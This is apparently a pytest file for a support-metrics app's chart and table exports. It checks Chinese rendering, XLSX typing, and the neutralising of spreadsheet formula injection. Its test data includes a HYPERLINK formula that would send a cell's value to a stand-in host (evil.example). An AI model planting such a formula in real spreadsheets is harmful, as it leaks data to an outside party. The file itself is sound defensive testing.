"""Exports: charts as PNG (2x) and SVG rendered offline with Chinese glyphs, tables as CSV
(UTF-8 with BOM) and XLSX (typed, formatted), formula-looking cells neutralised."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
from datetime import date, datetime

import altair as alt
import openpyxl
import polars as pl
import pytest
from PIL import Image, ImageChops

from metrics.core.filters import Filters
from metrics.present import charts, exports, formatting

SUBTITLE = "2026-11-01 – 2026-11-23 · 渠道：电话 · 时长按自然时间计"


def pareto() -> alt.LayerChart:
    df = pl.DataFrame({"category": ["product_quality", "delivery", "service_attitude"],
                       "complaints": [50, 30, 20]})
    df = df.with_columns((pl.col("complaints") / 100).alias("share"))
    return charts.pareto(df.with_columns(pl.col("share").cum_sum().alias("cumulative")), "zh")


def titled(title: str) -> alt.Chart:
    """The same small chart under another title, in the app's chart style."""
    data = pl.DataFrame({"x": ["a", "b"], "y": [1, 2]})
    return (alt.Chart(data).mark_bar().encode(x="x:N", y="y:Q")
            .properties(title=alt.TitleParams(title, anchor="start", fontSize=28), width=300,
                        height=80)
            .configure(font=charts.FONT, background="white"))


def svg_size(body: bytes) -> tuple[float, float]:
    root = ET.fromstring(body)
    return float(root.attrib["width"]), float(root.attrib["height"])


def png(body: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(body))
    assert image.format == "PNG"
    return image.convert("L")


# --- charts ---

def test_png_is_twice_the_charts_css_size() -> None:
    chart = pareto()
    width, height = svg_size(exports.chart_svg(chart, SUBTITLE))
    one, two = png(exports.chart_png(chart, SUBTITLE, scale=1)), png(
        exports.chart_png(chart, SUBTITLE))
    assert one.size == (round(width), round(height))
    assert two.size == (2 * one.width, 2 * one.height)
    assert width >= exports.EXPORT_WIDTH  # the page's container width became a fixed one


def test_svg_is_xml_with_the_chinese_title_and_the_subtitle() -> None:
    body = exports.chart_svg(pareto(), SUBTITLE)
    root = ET.fromstring(body)
    texts = ["".join(e.itertext()) for e in root.iter() if e.tag.endswith("text")]
    assert "投诉类别（柱）与累计占比（线）" in texts
    assert SUBTITLE in texts
    assert "产品质量" in texts  # the axis labels in Chinese too


def test_the_export_does_not_change_the_chart_the_page_shows() -> None:
    chart = pareto()
    before = chart.to_dict()
    spec = exports.export_spec(chart, SUBTITLE)
    assert chart.to_dict() == before
    assert spec["title"]["text"] == before["title"]["text"]
    assert spec["title"]["subtitle"] == SUBTITLE
    assert spec["datasets"] == before["datasets"] and spec["layer"] == before["layer"]


def test_small_multiples_keep_their_own_sizes() -> None:
    df = pl.DataFrame({
        "metric": ["csat"] * 4, "who": ["agent", "team"] * 2,
        "bucket": [datetime(2026, 11, 1), datetime(2026, 11, 1), datetime(2026, 11, 8),
                   datetime(2026, 11, 8)],
        "value": [0.9, 0.85, 0.8, 0.86]})
    chart = charts.agent_vs_team(df, {"csat": 0.9}, "张三", "zh", "week")
    body = exports.chart_svg(chart, SUBTITLE)
    assert "张三" in body.decode() and "满意率" in body.decode()
    assert png(exports.chart_png(chart, SUBTITLE)).width == 2 * round(svg_size(body)[0])


def _title_band(title: str) -> Image.Image:
    """The PNG's title row: the top of the image, above the subtitle and the plot."""
    image = png(exports.chart_png(titled(title), ""))
    return image.crop((0, 0, image.width, 2 * 40))


def _ink(band: Image.Image) -> int:
    """Dark pixels of a greyscale image."""
    return sum(band.histogram()[:128])


def test_chinese_glyphs_really_render() -> None:
    """Two titles of four different Chinese characters must draw differently, and neither
    like four characters no font has (U+E000.., private use): with no CJK font both titles
    would be the same four missing-glyph boxes (or nothing at all)."""
    quality, satisfaction, missing = (_title_band(text) for text in
                                      ("客服质量", "满意程度", "\ue000\ue001\ue002\ue003"))
    assert quality.size == satisfaction.size == missing.size
    assert _ink(quality) > 500 and _ink(satisfaction) > 500  # the title is drawn, and bold
    no_font = "Chinese renders as empty boxes: install a CJK font (`make fonts` as root)"
    for one, other in ((quality, satisfaction), (quality, missing), (satisfaction, missing)):
        difference = ImageChops.difference(one, other)
        assert _ink(ImageChops.invert(difference)) > 200, no_font  # many pixels differ


# --- tables ---

INJECTED = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1", "-2+3", "@SUM(A1)"]


def report_frame() -> pl.DataFrame:
    return pl.DataFrame({
        "坐席": ["张三", *INJECTED],
        "满意率": ["88.1%", "—", "-7.5%", "100.0%", "0.0%"],
        "平均解决时长": ["3小时20分", "45秒", "2天3小时", "—", "12分5秒"],
        "工单量": ["1,584", "12", "0", "—", "7"],
        "得分": [4.25, 3.5, None, 5.0, 1.0],
        "排名": [1, 2, 3, 4, 5],
    })


def workbook(body: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return sheet


def test_xlsx_has_numbers_in_their_formats_and_a_styled_header() -> None:
    sheet = workbook(exports.xlsx_bytes(report_frame(), "投诉/帕累托"))
    assert sheet.title == "投诉_帕累托"
    header = [c.value for c in sheet[1]]
    assert header == ["坐席", "满意率", "平均解决时长", "工单量", "得分", "排名"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(min_row=2))
    rate = [r[1] for r in rows]
    assert [c.value for c in rate] == [pytest.approx(0.881), None, pytest.approx(-0.075), 1, 0]
    assert all(c.number_format == "0.0%" for c in rate if c.value is not None)
    took = [r[2] for r in rows]
    assert [c.value.total_seconds() if c.value is not None else None for c in took] == [
        12_000, 45, 183_600, None, 725]
    assert all(c.number_format == "[h]:mm:ss" for c in took if c.value is not None)
    count = [r[3] for r in rows]
    assert [c.value for c in count] == [1584, 12, 0, None, 7]
    assert all(c.number_format == "#,##0" for c in count if c.value is not None)
    assert [r[4].value for r in rows] == [4.25, 3.5, None, 5, 1]
    assert [r[5].value for r in rows] == [1, 2, 3, 4, 5]
    assert rows[0][5].number_format == "#,##0"


def test_injected_cells_are_text_with_a_quote_in_csv_and_xlsx() -> None:
    frame = report_frame()
    text = exports.csv_bytes(frame).decode("utf-8-sig")
    cells = [line.split(",", 1)[0] for line in text.splitlines()[1:]]
    assert cells[0] == "张三"
    for cell, injected in zip(cells[1:], ["=HYPERLINK", "+1", "-2+3", "@SUM(A1)"], strict=True):
        assert cell.lstrip('"').startswith("'" + injected)
    sheet = workbook(exports.xlsx_bytes(frame))
    names = [r[0] for r in sheet.iter_rows(min_row=2)]
    assert [c.value for c in names] == ["张三", *("'" + v for v in INJECTED)]
    assert all(c.data_type == "s" for c in names)  # strings, never formulas
    assert sheet["B4"].value == pytest.approx(-0.075) and sheet["B4"].data_type == "n"
    for kind in ("tab", "cr"):
        cell = {"tab": "\t=1+1", "cr": "\r=1+1"}[kind]
        assert exports.neutralise(pl.DataFrame({"a": [cell]}))["a"][0] == "'" + cell


def test_csv_is_utf8_with_a_bom_and_excel_readable_times() -> None:
    frame = pl.DataFrame({"工单号": ["T1"], "创建时间": [datetime(2026, 11, 1, 9, 5)],
                          "日期": [date(2026, 11, 1)], "标签": [["a", "b"]]})
    body = exports.csv_bytes(frame)
    assert body.startswith(b"\xef\xbb\xbf")
    lines = body.decode("utf-8-sig").splitlines()
    assert lines == ["工单号,创建时间,日期,标签", 'T1,2026-11-01 09:05:00,2026-11-01,"a, b"']


def test_codes_made_of_digits_stay_text_in_xlsx() -> None:
    frame = pl.DataFrame({"工单号": ["00123", "04567"], "订单号": ["1234567890123456", "7"],
                          "时间": [datetime(2026, 11, 1, 9, 5), None]})
    sheet = workbook(exports.xlsx_bytes(frame))
    assert [sheet["A2"].value, sheet["A3"].value] == ["00123", "04567"]
    assert sheet["B2"].value == "1234567890123456"
    assert sheet["C2"].value == datetime(2026, 11, 1, 9, 5)
    assert sheet["C2"].is_date


def test_an_empty_table_still_downloads() -> None:
    frame = report_frame().head(0)
    assert exports.csv_bytes(frame).decode("utf-8-sig").startswith("坐席,满意率")
    assert workbook(exports.xlsx_bytes(frame))["A1"].value == "坐席"


@pytest.mark.parametrize("text", ["3小时20分", "3 h 20 min", "12分5秒", "45 s", "2天3小时"])
def test_durations_read_back(text: str) -> None:
    seconds = formatting.parse_duration(text)
    assert seconds is not None
    lang = "zh" if re.search(r"[\u4e00-\u9fff]", text) else "en"
    assert formatting.duration(seconds, lang) == text


# --- what an export covers ---

def test_scope_line_names_the_period_filters_and_clock() -> None:
    filters = Filters(date_from=date(2026, 11, 1), date_to=date(2026, 11, 23),
                      channels=("phone", "chat"), teams=("一组",),
                      categories=("delivery",), business_hours=True)
    assert exports.scope_line(filters, "zh") == (
        "2026-11-01 – 2026-11-23 · 较上一等长周期 2026-10-09 – 2026-10-31 · 渠道：电话、在线 · "
        "班组：一组 · 投诉类别：物流配送 · 时长按工作时间计")
    assert exports.scope_line(filters, "en") == (
        "2026-11-01 – 2026-11-23 · vs previous period 2026-10-09 – 2026-10-31 · "
        "Channel: Phone, Chat · Team: 一组 · Category: Delivery · durations in business hours")
    yoy = filters.model_copy(update={"compare": "yoy"})
    assert exports.scope_line(yoy, "zh").startswith(
        "2026-11-01 – 2026-11-23 · 同比 2025-11-01 – 2025-11-23 · ")
    plain = Filters(date_from=date(2026, 11, 1), date_to=date(2026, 11, 23))
    assert exports.scope_line(plain, "en") == (
        "2026-11-01 – 2026-11-23 · vs previous period 2026-10-09 – 2026-10-31 · "
        "durations in calendar time")


def test_id_and_phone_columns_stay_text_even_when_all_digits() -> None:
    # A numeric ticket number, an unmasked phone and a short employee code: no thousands
    # separator, so not a count the app formatted; the id columns are text by name as well.
    frame = pl.DataFrame({"工单号": ["20261001123", "20261001124"],
                          "联系电话": ["13812345678", "13900001111"],
                          "工号": ["1001", "1002"], "工单量": ["1,584", "12"]})
    sheet = workbook(exports.xlsx_bytes(frame))
    assert [c.value for c in sheet[2]] == ["20261001123", "13812345678", "1001", 1584]
    assert sheet.cell(2, 4).number_format == "#,##0"


def test_raw_rows_keep_their_cells_for_fixing_and_importing_again() -> None:
    rejects = pl.DataFrame({"row": [3], "score": ["12%"], "channel": ["-"],
                            "formula": ["=1+1"]})
    sheet = workbook(exports.xlsx_bytes(rejects, "rejects", as_shown=False))
    assert [c.value for c in sheet[2]] == [3, "12%", "'-", "'=1+1"]
